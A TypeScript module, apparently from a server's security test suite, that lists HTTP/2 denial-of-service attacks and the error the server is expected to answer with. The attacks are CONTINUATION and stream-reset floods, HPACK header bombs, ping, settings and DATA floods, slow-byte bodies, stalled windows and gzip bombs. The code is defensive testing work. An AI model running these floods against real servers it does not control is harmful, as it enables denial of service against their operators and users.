import { constants } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { type Attack, CLOSED, flood, uint32 } from './tools/attack.ts';
import * as h2 from './tools/http2-frames.ts';
import { connectionError, ended, Http2Peer, openHttp2, sessionRequest } from './tools/http2-peer.ts';
import type { Http2Surface } from './tools/surface.ts';

/** Error code for a peer that does too much of what is allowed. RFC 9113 §7 */
const CALM = /ENHANCE_YOUR_CALM/;
/** Error code sent in a GOAWAY, which ends the whole connection. */
const TOLD = /GOAWAY ENHANCE_YOUR_CALM/;
const SLOW_BYTE_MS = 250;
/** Flow-control window that lets only the first bytes of a stream through. */
const WINDOW_BYTES = 500;
/** Max number of frames of a flood; ordinary clients send none or a handful. */
const MANY = 20_000;

/** Attacks on HTTP/2 itself, whatever it carries. */
export function http2Attacks(surface: Http2Surface): readonly Attack[] {
  const { messages } = surface;
  const posts = 'posts' in messages;
  // gRPC's library handles a connection from its first stream on; until then Node.js answers, with another error code.
  const toldBeforeStreams = posts ? TOLD : /GOAWAY INTERNAL_ERROR/;
  return [
    {
      name: 'a preface and nothing more',
      refused: posts ? /GOAWAY NO_ERROR closed/ : CLOSED,
      async run(target) {
        return connectionError(await openHttp2(target));
      },
    },
    {
      name: 'headers that are continued without end',
      refused: toldBeforeStreams,
      async run(target) {
        const peer = await openHttp2(target);
        await peer.write(h2.frame(h2.HEADERS, 0, 1, h2.headerBlock(sessionRequest(target, surface))));
        const more = h2.frame(h2.CONTINUATION, 0, 1, h2.headerBlock([['endless', 'x'.repeat(1_000)]]));
        await flood(peer, more, 2_000);
        return connectionError(peer);
      },
    },
    {
      name: 'headers that unpack to megabytes',
      refused: /(GOAWAY|RST_STREAM) (ENHANCE_YOUR_CALM|PROTOCOL_ERROR|COMPRESSION_ERROR|REFUSED_STREAM)/,
      async run(target) {
        const peer = await openHttp2(target);
        const bomb = Buffer.concat([
          h2.headerBlock(sessionRequest(target, surface)),
          h2.bombBlock('bomb', 'x'.repeat(3_500), 10_000),
        ]);
        await peer.write(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, bomb));
        return connectionError(peer);
      },
    },
    opening(surface, 'streams that are opened and reset', (stream) =>
      h2.frame(h2.RST_STREAM, 0, stream, uint32(constants.NGHTTP2_CANCEL)),
    ),
    opening(surface, 'thousands of streams at once, the settings never acknowledged', () => Buffer.alloc(0)),
    flooding(surface, 'pings', h2.frame(h2.PING, 0, 0, Buffer.alloc(8))),
    flooding(surface, 'settings', h2.frame(h2.SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, 3), uint32(100)]))),
    flooding(surface, 'empty DATA frames', h2.frame(h2.DATA, 0, 1)),
    {
      name: 'pings whose answers are never read',
      // A peer that reads nothing may be reset before it can read the reason.
      refused: CLOSED,
      async run(target) {
        const peer = await openHttp2(target);
        peer.freeze();
        const write = (bytes: Uint8Array): Promise<boolean> => Promise.race([peer.write(bytes), sleep(1_000, false)]);
        await flood({ write }, h2.frame(h2.PING, 0, 0, Buffer.alloc(8)), 50 * MANY);
        peer.thaw();
        return connectionError(peer);
      },
    },
    {
      name: 'frames longer than the agreed maximum',
      refused: /GOAWAY FRAME_SIZE_ERROR/,
      async run(target) {
        const peer = await openHttp2(target);
        await peer.write(h2.frame(h2.DATA, 0, 1, Buffer.alloc(100_000)));
        return connectionError(peer);
      },
    },
    {
      name: 'a message in one-byte pieces that stops before its end',
      refused: posts ? /408/ : CALM,
      async run(target) {
        await using peer = await Http2Peer.dial(target, surface);
        const message = await peer.beginMessage();
        for (let sent = 0; sent < 6_000 && (await peer.write(message, 'x')); sent++);
        return await peer.told(message);
      },
    },
    {
      name: 'a message a byte at a time',
      refused: posts ? /408/ : CALM,
      async run(target) {
        await using peer = await Http2Peer.dial(target, surface);
        const message = await peer.beginMessage();
        const timer = setInterval(() => void peer.write(message, 'x'), SLOW_BYTE_MS);
        const told = await peer.told(message);
        clearInterval(timer);
        return told;
      },
    },
    {
      name: 'a window that is never opened',
      refused: CLOSED,
      async run(target) {
        await using peer = await Http2Peer.dial(target, surface, { windowBytes: WINDOW_BYTES });
        const { down } = peer;
        down.pause();
        for (let sent = 0; sent < 6 && !down.closed; sent++) await peer.send('x'.repeat(60_000));
        // A paused stream reports no end: it is resumed once the server must have cut it.
        const look = setTimeout(() => down.resume(), 7_000);
        const told = await peer.told(down);
        clearTimeout(look);
        return told;
      },
    },
    ...(posts ? postAttacks(surface) : []),
  ];
}

/** Attacks on servers to which messages are posted by HTTP/2 requests. */
const postAttacks = (surface: Http2Surface): readonly Attack[] => [
  {
    name: 'a compressed body over HTTP/2',
    refused: /:status 415/,
    async run(target) {
      await using peer = await Http2Peer.dial(target, surface);
      const message = await peer.beginMessage({ 'content-encoding': 'gzip' });
      await peer.write(message, gzipSync(Buffer.alloc(10_000_000)));
      return await peer.told(message);
    },
  },
  {
    name: 'a body over HTTP/2 without end',
    refused: /:status 413/,
    async run(target) {
      await using peer = await Http2Peer.dial(target, surface);
      const message = await peer.beginMessage();
      await flood({ write: (bytes) => peer.write(message, bytes) }, 'x'.repeat(0x1000), 4_000);
      return await peer.told(message);
    },
  },
  {
    name: 'a flood of requests over HTTP/2',
    refused: CALM,
    async run(target) {
      await using peer = await Http2Peer.dial(target, surface);
      for (let sent = 0; sent < 2_000 && !peer.over; sent++) {
        const request = peer.request({ ':path': '/none' });
        request.resume().end();
        await ended(request);
      }
      return await peer.told(peer.down);
    },
  },
];

/** Opens streams as fast as the server takes them, each followed by the bytes that `after` returns. */
function opening(surface: Http2Surface, name: string, after: (stream: number) => Buffer): Attack {
  return {
    name,
    refused: TOLD,
    async run(target) {
      const peer = await openHttp2(target);
      const headers = h2.headerBlock(sessionRequest(target, surface));
      const open = (stream: number): Buffer =>
        Buffer.concat([h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers), after(stream)]);
      await flood(peer, (index) => open(2 * index + 1), MANY);
      return connectionError(peer);
    },
  };
}

/** Opens a session and then floods its connection with one frame that has no effect. */
function flooding(surface: Http2Surface, what: string, frame: Buffer): Attack {
  return {
    name: `a flood of ${what} over HTTP/2`,
    refused: TOLD,
    async run(target) {
      const peer = await openHttp2(target);
      await peer.write(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.headerBlock(sessionRequest(target, surface))));
      await flood(peer, frame, MANY);
      return connectionError(peer);
    },
  };
}
